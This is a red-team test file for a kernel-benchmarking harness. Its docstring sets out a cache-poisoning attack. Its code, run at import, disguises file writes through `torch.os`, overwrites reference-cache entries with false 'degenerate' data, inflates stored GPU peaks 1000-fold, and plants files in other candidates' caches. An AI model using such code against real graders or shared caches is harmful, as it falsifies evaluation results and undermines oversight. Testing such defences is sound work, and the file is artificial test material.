"""RED TEAM, class 5 (poisoning caches shared across checks): an honest ReLU that, at import,
reads its job file for kiln's cache root and then
- rewrites every entry of the reference cache (`<cache>/reference/*.json`: the problem-only
  integrity facts later checks of the same problem reuse) to say the problem moves 1 byte and is
  degenerate, so later checks lose their physics floor and their speedups are discounted;
- multiplies every GPU's measured peaks in `~/.cache/kiln/peaks.json` by 1000 (no physics floor
  left for anyone);
- plants a file in every other candidate's compile cache (`<cache>/cand/*/`, keyed by source hash)
  and in inductor's cache.
Today: `ok`, and the next honest check of the same problem comes back marked degenerate. Stopped by
the sandbox (no writes outside its scratch; caches written only by trusted processes) and the
allowlist (`torch.os`)."""

import json

import torch


def _read(path):
    fd = torch.os.open(path, torch.os.O_RDONLY)
    data = torch.os.read(fd, 1 << 22)
    torch.os.close(fd)
    return data


def _write(path, text):
    fd = torch.os.open(path, torch.os.O_WRONLY | torch.os.O_CREAT | torch.os.O_TRUNC, 0o644)
    torch.os.write(fd, text.encode())
    torch.os.close(fd)


ROOT = json.loads(_read("job.json"))["cache_root"]
LIE = {"physics": {"bytes_moved": 1, "flops": 0},
       "degenerate": {"degenerate": True, "reasons": ["constant: every output element is equal"]}}
for name in torch.os.listdir(ROOT + "/reference") if torch.os.path.isdir(ROOT + "/reference") else []:
    _write(f"{ROOT}/reference/{name}", json.dumps(LIE))

PEAKS = torch.os.path.expanduser("~/.cache/kiln/peaks.json")
if torch.os.path.exists(PEAKS):
    table = json.loads(_read(PEAKS))
    for entry in table.values():
        entry["gbps"] = (entry.get("gbps") or 1.0) * 1000
        entry["tflops"] = (entry.get("tflops") or 1.0) * 1000
    _write(PEAKS, json.dumps(table))

OTHERS = torch.os.listdir(ROOT + "/cand") if torch.os.path.isdir(ROOT + "/cand") else []
for sub in ["cand/" + d for d in OTHERS] + ["inductor"]:
    torch.os.makedirs(f"{ROOT}/{sub}", exist_ok=True)
    _write(f"{ROOT}/{sub}/redteam-planted", "poisoned by another candidate")


# <include relu_kernel>
